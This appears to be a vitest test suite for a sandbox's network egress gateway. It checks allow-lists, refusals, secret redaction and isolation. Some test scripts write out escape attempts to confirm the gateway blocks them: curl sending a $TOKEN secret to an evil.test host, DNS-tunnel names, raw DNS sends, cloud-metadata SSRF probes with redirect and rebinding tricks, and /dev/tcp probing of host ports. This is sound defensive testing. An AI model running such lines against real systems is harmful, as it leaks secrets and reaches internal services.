/** What leaves the sandbox, with common programs and with programs that look for a way around. */

import { once } from "node:events";
import { existsSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { SandboxMode } from "#shared/protocol/sandbox-mode";
import { claimFor } from "../kit/sandbox/gateway.ts";
import { execute } from "../kit/sandbox/host.ts";
import { runnerPrograms } from "../kit/sandbox/programs.ts";
import { allowing, publicAddress, TestInternet } from "../kit/sandbox/test-internet.ts";
import { makeRegistries } from "./support/registries.ts";

const registries = makeRegistries("https://allowed.test");
const internet = new TestInternet({
  names: {
    "allowed.test": [[publicAddress]],
    "other.test": [[publicAddress]],
    "rebound.test": [[publicAddress], ["169.254.169.254"]],
    "inside.test": [[publicAddress, "10.0.0.1"]],
  },
  serve: (request, response) => {
    const [path] = (request.url ?? "").split("?");
    if (path === "/hello") return void response.end(`hello from ${request.headers.host}\n`);
    if (path !== "/redirect") return registries.serve(request, response);
    response.writeHead(302, { location: "http://169.254.169.254/computeMetadata/v1/" }).end();
  },
});
const names = "allowed.test:443 allowed.test:80 rebound.test:80 inside.test:80".split(" ");
const claimed = internet.claim(allowing(...names));
const options = { timeout: 120_000 };

beforeAll(async () => void (await internet.open()));
afterAll(() => {
  internet.close();
  registries.close();
});

function run(script: string, changes = claimed, mode: SandboxMode = "userns") {
  return execute(claimFor(script, changes), mode, { environment: internet.environment });
}

const fetchIn = (url: string) =>
  `fetch("${url}").then((r) => r.text()).then((t) => console.log("node:", t.trim()))
    .catch((e) => console.log("node:", (e.cause ?? e).message))`;
const python = (url: string) => `
import urllib.request
try: print("python:", urllib.request.urlopen("${url}", timeout=5).read().decode().strip())
except Exception as e: print("python:", e)`;

/** Each prints what it received; programs that this machine lacks are left out. */
const clients = [
  {
    program: "curl",
    script: "curl -sS https://allowed.test/hello",
    prints: "hello from allowed.test",
  },
  {
    program: "curl",
    script: "curl -sS http://allowed.test/hello",
    prints: "hello from allowed.test",
  },
  {
    program: "git",
    script: "git clone -q https://allowed.test/repository.git && cat repository/greeting.txt",
    prints: "hello from git",
  },
  {
    program: "pip3",
    script: `pip3 install -q --disable-pip-version-check --break-system-packages --target packages \
      --index-url https://allowed.test/simple greeting 2>&1 &&
      PYTHONPATH=packages python3 -c 'import greeting; print(greeting.text)'`,
    prints: "hello from pip",
  },
  {
    program: "npm",
    script: `npm install --silent --no-audit --no-fund --no-update-notifier \
      --registry https://allowed.test greeting && node -e 'console.log(require("greeting"))'`,
    prints: "hello from npm",
  },
  {
    program: "python3",
    script: `python3 -c '${python("https://allowed.test/hello")}'`,
    prints: "python: hello from allowed.test",
  },
  {
    program: "node",
    script: `node -e '${fetchIn("https://allowed.test/hello")}'`,
    prints: "node: hello from allowed.test",
  },
  {
    program: "node",
    script: `node -e '${fetchIn("http://allowed.test/hello")}'`,
    prints: "node: hello from allowed.test",
  },
].filter(({ program }) => program === "node" || existsSync(`/usr/bin/${program}`));

describe("NET-2 an allow-list", options, () => {
  test("lets the programs through that people use, as they are", async () => {
    const { gateway } = await run(clients.map(({ script }) => script).join("\n"));
    const lines = (gateway.settled?.output ?? "").trim().split("\n");
    expect(lines).toEqual(clients.map(({ prints }) => prints));
    expect(gateway.egress.every(({ verdict }) => verdict === "allowed")).toBe(true);
    expect(gateway.egress.some(({ receivedBytes }) => receivedBytes > 1_000)).toBe(true);
  });

  test("NET-4 F9 tells each of them why not, at once", async () => {
    const { gateway } = await run(`
      curl -sS http://other.test/; curl -sSv https://other.test/ 2>&1 | grep '< HTTP'
      git clone -q https://other.test/x 2>&1; python3 -c '${python("https://other.test/")}'
      node -e '${fetchIn("https://other.test/")}'; exit 1`);
    const output = gateway.settled?.output ?? "";
    expect(output).toContain('"rule":"host_not_allowed"');
    expect(output).toContain("403 The network policy doesn't allow this host (host_not_allowed)");
    expect(output).toMatch(/fatal: unable to access .*response 403/);
    expect(output).toMatch(/python: .*403 The network policy doesn't allow this host/);
    expect(output).toMatch(/node: /);
    expect(output).toMatch(/The network policy refused: other.test:80 .*; other.test:443 .*×4/);
    expect(gateway.egress).toHaveLength(5);
    for (const attempt of gateway.egress) {
      expect(attempt).toMatchObject({ host: "other.test", rule: "host_not_allowed", sentBytes: 0 });
    }
    expect(internet.dns.asked).not.toContain("other.test");
  });

  test("and keeps secrets out of the log, even if one is asked for as a host", async () => {
    const secrets = [{ key: "TOKEN", value: "Sk-live-0123456789abcdef" }];
    const script = "curl -s http://$TOKEN.evil.test/; curl -s https://$TOKEN.evil.test/; exit 1";
    const { gateway } = await run(script, { ...claimed, secrets });
    const host = "[redacted:TOKEN].evil.test";
    expect(gateway.egress).toMatchObject([{ host }, { host }]);
    expect(gateway.received.join("").toLowerCase()).not.toContain("sk-live-0123456789abcdef");
  });

  test("EXE-6 F8 leads nowhere inside, through redirects and rebinding neither", async () => {
    const { gateway } = await run(`
      show() { curl -s -m 10 --noproxy '' -o /dev/null -w '%{http_code} %header{x-paddock-rule}\\n' "$@"; }
      show -L http://allowed.test/redirect
      show http://rebound.test/hello; show http://rebound.test/hello; show http://inside.test/hello
      for host in 169.254.169.254 2852039166 0xa9fea9fe '[::ffff:169.254.169.254]' 127.0.0.1 10.0.0.1
      do show "http://$host/"; done
      show http://metadata.google.internal/`);
    const inside = "403 private_address";
    expect((gateway.settled?.output ?? "").trim().split("\n")).toEqual([
      inside,
      "200 ",
      ...[inside, inside],
      ...Array<string>(6).fill(inside),
      "403 private_name",
    ]);
  });
});

describe("NET-3 F7 names", options, () => {
  test("are resolved outside, and for whom they are permitted: no tunnel of questions", async () => {
    const before = internet.dns.asked.length;
    const { gateway } = await run(`
      curl -sS -m 5 "https://c2VjcmV0.evil.test/" 2>&1 | grep -c 403
      getent hosts "c2VjcmV0.evil.test" || echo unresolved
      python3 -c 'import socket; s = socket.socket(2, 2); s.settimeout(0.2)
try: s.sendto(b"question", ("8.8.8.8", 53)); print("sent")
except OSError as e: print(e.strerror)'`);
    expect(gateway.settled?.output).toBe("1\nunresolved\nNetwork is unreachable\n");
    expect(internet.dns.asked.slice(before)).toEqual([]);
  });
});

describe("NET-1 what an execution reaches", options, () => {
  const abstractName = `\0paddock-${process.pid}`;
  const [onPort, onName]: [Server, Server] = [createServer(), createServer()];

  beforeAll(async () => {
    for (const server of [onPort, onName])
      server.on("connection", (socket) => socket.end("reached"));
    await once(onPort.listen(0, "127.0.0.1"), "listening");
    await once(onName.listen(abstractName), "listening");
  });
  afterAll(() => {
    onPort.close();
    onName.close();
  });

  const tcp = (port: string | number) =>
    `(exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3 && echo open) 2>&1 | grep -o 'refused\\|open' | head -1`;

  test("is no port of the host, its gateway's neither, and no socket without a file", async () => {
    const host = onPort.address();
    const port = typeof host === "object" && host !== null ? host.port : 0;
    const { gateway } = await run(`
      ${tcp(port)}
      ${tcp(internet.localPort(443))}
      curl -sS -o /dev/null -w '%{http_code}\\n' --noproxy '' http://127.0.0.1:${port}/
      python3 -c 'import socket
try: socket.socket(socket.AF_UNIX).connect("\\0paddock-${process.pid}"); print("open")
except OSError as e: print("refused")'
      env | grep -ci gateway; true`);
    const lines = (gateway.settled?.output ?? "").trim().split("\n");
    expect(lines).toEqual(["refused", "refused", "403", "refused", "0"]);
  });

  test("is no other execution, while both run in an open network", async () => {
    const open = internet.claim({ mode: "internet" });
    const listener = `exec 8</usr/bin/env 9</dev/null; flock 8; flock 9; python3 -c 'import socket
s = socket.socket(); s.bind(("0.0.0.0", 7777)); s.listen(); print("listening", flush=True)
u = socket.socket(socket.AF_UNIX); u.bind("\\0paddock-execution"); u.listen()
s.settimeout(20)
try: s.accept(); print("reached")
except OSError: print("nobody came")' & pid=$!; while [ ! -e stop ] && kill -0 $pid; do sleep 0.1; done`;
    const seeker = `${tcp(7777)}
      curl -sS -o /dev/null -w '%{http_code}\\n' --noproxy '' http://127.0.0.1:7777/
      python3 -c 'import socket
try: socket.socket(socket.AF_UNIX).connect("\\0paddock-execution"); print("open")
except OSError as e: print("refused")'
      for file in /usr/bin/env /dev/null; do flock -n $file echo free || echo locked; done`;
    let sought = "";
    const first = await execute(claimFor(listener, open), "userns", {
      environment: internet.environment,
      during: async (gateway) => {
        await gateway.until(() => gateway.text().includes("listening"));
        const { gateway: second } = await run(seeker, open);
        sought = second.settled?.output ?? "";
        gateway.stop = "cancelled";
      },
      prepare: (gateway) => {
        const claim = claimFor(listener, open);
        gateway.claim = { ...claim, lease: { ...claim.lease, heartbeatIntervalMs: 200 } };
      },
    });
    expect(sought).toBe("refused\n403\nrefused\nfree\nfree\n");
    expect(first.gateway.settled?.output).not.toContain("reached");
    expect(first.leftovers).toEqual([]);
  });

  test("NET-4 is nothing at all with `none`, and each program is told so at once", async () => {
    const secrets = [{ key: "TOKEN", value: "Sk-live-0123456789abcdef" }];
    const { gateway } = await run(
      `curl -sS http://1.1.1.1/; curl -sSv https://example.com/ 2>&1 | grep '< HTTP'
      curl -sS http://1.1.1.1/ --noproxy '*' 2>&1; curl -s http://$TOKEN.evil.test/ >/dev/null
      git clone -q https://example.com/x 2>&1; python3 -c '${python("https://example.com/")}'
      node -e '${fetchIn("https://example.com/")}'
      start=$SECONDS; npm view left-pad version 2>&1 | head -3; pip3 download greeting 2>&1 | tail -2
      [ $((SECONDS - start)) -lt 30 ] && echo "npm and pip are not kept waiting"
      exit 1`,
      { ...claimed, secrets, network: claimFor("").network },
    );
    const output = gateway.settled?.output ?? "";
    expect(output).toContain('"rule":"no_network"');
    expect(output).toContain('its network to {\\"mode\\":\\"allowlist\\"');
    expect(output).toContain("403 The environment has no network (no_network)");
    expect(output).toMatch(/curl: \(7\) .*(Couldn't|Failed to) connect/);
    expect(output).toMatch(/fatal: unable to access .*response 403/);
    expect(output).toMatch(/python: .*403 The environment has no network/);
    expect(output).toMatch(/npm error .*403/);
    expect(output).toContain("npm and pip are not kept waiting");
    expect(output).toMatch(/The network policy refused: 1\.1\.1\.1:80 \(no_network\)/);
    for (const attempt of gateway.egress) {
      const refused = { verdict: "refused", rule: "no_network", address: null, sentBytes: 0 };
      expect(attempt).toMatchObject(refused);
    }
    const asked = gateway.egress.map(({ host, port }) => `${host}:${port}`);
    expect(asked).toEqual(
      expect.arrayContaining(["1.1.1.1:80", "example.com:443", "[redacted:TOKEN].evil.test:80"]),
    );
  });

  test("F6 isn't opened half: without its listener nothing runs", async () => {
    const folder = await runnerPrograms();
    const program = join(folder, "without-nsenter.cjs");
    const hide = 'execFileSync("mount", ["--bind", "/dev/null", "/usr/bin/nsenter"])';
    writeFileSync(program, `require("node:child_process").${hide};\nrequire("./launcher.cjs");\n`);
    const { environment } = internet;
    const { gateway } = await execute(claimFor("echo ran", claimed), "userns", {
      program,
      environment,
    });
    expect(gateway.settled).toMatchObject({ outcome: "failed", reason: "runner_error" });
    expect(gateway.settled?.output).not.toContain("ran\n");
  });

  test("is the same in mode setpriv, and nothing of the listener is left", async () => {
    const script = "curl -sS https://allowed.test/hello; curl -sS -o /dev/null http://other.test/";
    const { gateway, leftovers } = await run(script, claimed, "setpriv");
    expect(gateway.settled?.output).toContain("hello from allowed.test\n");
    expect(gateway.egress.map(({ verdict }) => verdict)).toEqual(["allowed", "refused"]);
    expect(leftovers).toEqual([]);
  });
});
